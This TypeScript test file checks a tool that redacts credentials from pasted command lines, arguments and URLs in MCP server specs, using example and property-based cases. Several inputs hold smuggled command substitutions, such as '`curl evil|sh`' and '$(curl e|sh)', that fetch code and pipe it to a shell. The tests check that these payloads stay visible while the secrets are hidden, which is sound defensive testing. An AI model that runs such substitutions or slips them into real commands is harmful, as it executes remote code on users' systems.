// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { findSpecSecrets, withoutArgSecrets, withoutSecrets } from "./find-spec-secrets.js";
import { withoutCommandLineSecrets } from "./index.js";
import {
  asArg,
  expectArgFilledBack,
  expectFilledBack,
  expectKept,
  expectShownAndExported,
  expectStringHidden,
  exportedArg,
  exportedArgs,
  exportedCommand,
  pasted,
  withArgs,
} from "./test-support/spec-cases.js";

// fix170 (r65): values the export kept with a literal credential in clear, and no hint.

describe("a backtick inside a program's literal (r65 #1)", () => {
  it.each([
    [
      "node -e \"process.env.TOKEN = 'X`id`'\"",
      "node -e \"process.env.TOKEN = '${TOKEN}`id`'\"",
      "node -e \"process.env.TOKEN = '${TOKEN}'\"",
    ],
    [
      "node -e \"process.env.TOKEN = 'Zq7hunterPW`curl evil|sh`tail9'\"",
      "node -e \"process.env.TOKEN = '${TOKEN}`curl evil|sh`${TOKEN}'\"",
      "node -e \"process.env.TOKEN = '${TOKEN}'\"",
    ],
    [
      "node -e \"Object.assign(process.env, {TOKEN: 'X`id`'})\"",
      "node -e \"Object.assign(process.env, {TOKEN: '${TOKEN}`id`'})\"",
      "node -e \"Object.assign(process.env, {TOKEN: '${TOKEN}'})\"",
    ],
    [
      "python -c \"import os; os.environ['TOKEN'] = 'X`id`'\"",
      "python -c \"import os; os.environ['TOKEN'] = '${TOKEN}`id`'\"",
      "python -c \"import os; os.environ['TOKEN'] = '${TOKEN}'\"",
    ],
    // In the shell's '…' a backtick is no run-time part: the literal is hidden whole.
    [
      "node -e 'process.env.TOKEN = \"X`id`\"'",
      "node -e 'process.env.TOKEN = \"${TOKEN}\"'",
      "node -e 'process.env.TOKEN = \"${TOKEN}\"'",
    ],
  ])("%j is shown as %j (the backticks in sight), and exported as an argument as %j", (line, shown, safe) => {
    expectShownAndExported(line, shown, "${SRV_COMMAND}");
    expect(exportedArg(line)).toBe(safe);
    expect(findSpecSecrets(asArg(line)).map((hint) => hint.path)).toEqual(["bundle.mcpServers[0].args[1]"]);
    expect(findSpecSecrets(pasted(line)).map((hint) => hint.path)).toEqual(["bundle.mcpServers[0].command"]);
    expectFilledBack(line);
    expectArgFilledBack(["--run", line]);
  });

  it.each(["node -e \"process.env.TOKEN = '`id`'\"", "node -e \"process.env.NODE_ENV = 'X`id`'\""])(
    "%j, no literal beside the backticks or no telling name, is shown as written",
    (line) => {
      expect(withoutCommandLineSecrets(line)).toBe(line);
      expect(exportedArg(line)).toBe(line);
    },
  );

  it("never keeps a program's literal beside a run-time part in clear, and shows the part as often as written (property)", () => {
    const head = fc.constantFrom(
      "process.env.TOKEN = ",
      "Object.assign(process.env, {TOKEN: ",
      "import os; os.environ['TOKEN'] = ",
    );
    const part = fc.constantFrom("`id`", "`curl evil|sh`", "$(curl evil|sh)", "${HOME}");
    const secret = fc.stringMatching(/^[A-Za-z][A-Za-z0-9]{5,9}$/).map((text) => `Q9${text}`);
    const where = fc.constantFrom("before", "after", "both");
    fc.assert(
      fc.property(head, part, secret, where, (name, run, literal, at) => {
        const value =
          at === "before" ? literal + run : at === "after" ? run + literal : literal + run + literal;
        const close = name.includes("{") ? "})" : "";
        const line = `node -e "${name}'${value}'${close}"`;
        const shown = withoutCommandLineSecrets(line);
        expect(shown).not.toContain(literal);
        expect(shown.split(run).length).toBe(line.split(run).length);
        expect(exportedArg(line)).not.toContain(literal);
        expectFilledBack(line);
        expectArgFilledBack(["--run", line]);
      }),
      propertyRuns(200),
    );
  });
});

describe("a URL's userinfo after a positional or underscore reference (r65 #2)", () => {
  // Already hidden on this branch's base (fix167's and fix169's readers take any text before a
  // URL's scheme): kept so.
  it.each(["$10", "$_1", "${10}", "$_"])(
    "%shttps://u:pw9Secret@h/p is exported and shown without it",
    (ref) => {
      const url = `${ref}https://u:pw9Secret@h/p`;
      const safe = `${ref}https://h/p`;
      expect(exportedArgs(["--url", url])).toEqual(["--url", safe]);
      expect(exportedArgs([`--url=${url}`])).toEqual([`--url=${safe}`]);
      expect(findSpecSecrets(withArgs(["--url", url]))).toHaveLength(1);
      expectShownAndExported(`srv --url ${url}`, `srv --url ${safe}`);
      expectShownAndExported(url, safe);
      expectArgFilledBack(["--url", url]);
      expectFilledBack(`srv --url ${url}`);
    },
  );
});

describe("bash's append-assignment, NAME+=value (r65 #3)", () => {
  it.each([
    ["TOKEN+=pw9Secret srv", "TOKEN+=${TOKEN} srv"],
    ["TOKEN+=pw9Secret", "TOKEN+=${TOKEN}"],
    ["export TOKEN+=pw9Secret", "export TOKEN+=${TOKEN}"],
    ["export TOKEN+=pw9Secret; srv", "export TOKEN+=${TOKEN}; srv"],
    ["A=1 TOKEN+=pw9Secret srv", "A=1 TOKEN+=${TOKEN} srv"],
    ["srv -e TOKEN+=pw9Secret", "srv -e TOKEN+=${TOKEN}"],
    ['TOKEN+="pw9 Secret" srv', 'TOKEN+="${TOKEN}" srv'],
  ])("%j is shown and exported as %j, with one hint, as NAME=value is", (line, safe) => {
    expectShownAndExported(line, safe);
    expect(findSpecSecrets(pasted(line)).map((hint) => hint.path)).toEqual(["bundle.mcpServers[0].command"]);
    expect(JSON.stringify(exportedArgs(["--run", line]))).not.toContain("pw9");
    expectFilledBack(line);
    expectArgFilledBack(["--run", line]);
  });

  it("keeps a payload beside the value in sight, as NAME=value does", () => {
    const line = "TOKEN+=ab$(curl e|sh)cd srv";
    expectShownAndExported(line, "TOKEN+=${TOKEN}$(curl e|sh)${TOKEN} srv", "TOKEN+=${TOKEN} srv");
    expectFilledBack(line);
  });

  it("reads one in args given word by word", () => {
    expect(withoutArgSecrets(["-e", "TOKEN+=pw9Secret"])).toEqual(["-e", "TOKEN+=${TOKEN}"]);
    expect(exportedArgs(["-e", "TOKEN+=pw9Secret"])).toEqual(["-e", "TOKEN+=${TOKEN}"]);
    expectArgFilledBack(["-e", "TOKEN+=pw9Secret"]);
  });

  it.each(["PATH+=:/opt/bin srv", "TOKEN+=$X srv", 'TOKEN+="${T}" srv'])("keeps %j as written", expectKept);

  it("reads NAME+=value as it reads NAME=value (property)", () => {
    const name = fc.constantFrom("TOKEN", "DB_PASSWORD", "API_KEY", "PATH", "NODE_ENV");
    const value = fc.constantFrom("pw9Secret", '"pa ss9"', "ab$(curl e|sh)cd", "$X", "'q9x'");
    const rest = fc.constantFrom("", " srv", "; srv --v");
    const lead = fc.constantFrom("", "export ", "A=1 ");
    fc.assert(
      fc.property(lead, name, value, rest, (before, variable, text, after) => {
        const plain = `${before}${variable}=${text}${after}`;
        const append = `${before}${variable}+=${text}${after}`;
        const plus = (out: string) => out.replace(`${variable}=`, `${variable}+=`);
        expect(withoutCommandLineSecrets(append)).toBe(plus(withoutCommandLineSecrets(plain)));
        expect(exportedCommand(append)).toBe(plus(exportedCommand(plain) ?? ""));
        expectFilledBack(append);
      }),
    );
  });
});

describe("a telling query pair in a URL's fragment (r65 #4)", () => {
  it.each([
    ["https://h/p#x,redis://:pw9Secret@h2/?token=tk9Secret", "https://h/p#x,redis://h2/"],
    ["https://h/p#/cb?token=tk9Secret", "https://h/p#/cb"],
    ["https://h/p#/cb?a=1&token=tk9Secret&b=2", "https://h/p#/cb?a=1&b=2"],
    ["https://h/cb#access_token=tk9Secret&state=s", "https://h/cb#state=s"],
  ])("--url %j is exported as %j, with one hint, the rest as written", (url, safe) => {
    const args = ["--url", url];
    expect(exportedArgs(args)).toEqual(["--url", safe]);
    expect(findSpecSecrets(withArgs(args)).map((hint) => hint.path)).toEqual([
      "bundle.mcpServers[0].args[1]",
    ]);
    expect(withoutArgSecrets(args)).toEqual(["--url", safe]);
    // Filled back, byte for byte.
    expectArgFilledBack(args);
    expectStringHidden(url, safe);
  });

  it.each([
    ["srv --url https://h/p#x,redis://:pw9Secret@h2/?token=tk9Secret", "srv --url https://h/p#x,redis://h2/"],
    ["srv --url https://h/p#/cb?token=tk9Secret", "srv --url https://h/p#/cb"],
    // The shell ends the word at `&`: `token=X` is an assignment of its own.
    ["srv --url https://h/p#/cb?a=1&token=tk9Secret&b=2", "srv --url https://h/p#/cb?a=1&token=${TOKEN}&b=2"],
  ])("pasted, %j is shown and exported as %j", (line, safe) => {
    expectShownAndExported(line, safe);
    expect(findSpecSecrets(pasted(line))).toHaveLength(1);
    expectFilledBack(line);
  });

  it.each([
    "https://h/p#section",
    "https://h/p#/cb?page=2",
    "https://h/p#/cb?token=${TOKEN}",
    // A substitution in the value: the command-line reader ends the word at its blank, so the
    // value is left as written (the payload stays in sight).
    "https://h/p#/cb?token=$(curl evil|sh)",
  ])("keeps %j as written", (url) => {
    expect(exportedArgs(["--url", url])).toEqual(["--url", url]);
    expectKept(`srv --url ${url}`);
  });

  it.each([
    ["https://h/p?token=tk9Secret&&b=2", "https://h/p?b=2"],
    ["https://h/p#/cb?token=tk9Secret&&b=2", "https://h/p#/cb?b=2"],
    ["https://h/p#&access_token=tk9Secret", "https://h/p#"],
  ])(
    "%j, an empty pair beside a telling one, is exported as %j and fills back byte for byte",
    (url, safe) => {
      expect(exportedArgs(["--url", url])).toEqual(["--url", safe]);
      expectArgFilledBack(["--url", url]);
      expectStringHidden(url, safe);
    },
  );

  it("never keeps a telling fragment pair's value, and fills back byte for byte (property)", () => {
    const route = fc.constantFrom("", "/cb", "!/home", "x,redis://h2/");
    const before = fc.constantFrom("", "a=1&", "page=2&");
    const name = fc.constantFrom("token", "access_token", "api_key", "password");
    const secret = fc.stringMatching(/^[A-Za-z0-9]{6,12}$/).map((text) => `Q9${text}`);
    const after = fc.constantFrom("", "&state=s", "&b=2");
    fc.assert(
      fc.property(route, before, name, secret, after, (path, lead, key, value, tail) => {
        const url = `https://h/p#${path}${path === "" ? "" : "?"}${lead}${key}=${value}${tail}`;
        expect(JSON.stringify(exportedArgs(["--url", url]))).not.toContain(value);
        expect(findSpecSecrets(withArgs(["--url", url]))).toHaveLength(1);
        expect(withoutSecrets(url)).not.toContain(value);
        expectArgFilledBack(["--url", url]);
        expect(withoutSecrets(url, undefined, (text) => text)).toBe(url);
      }),
    );
  });
});
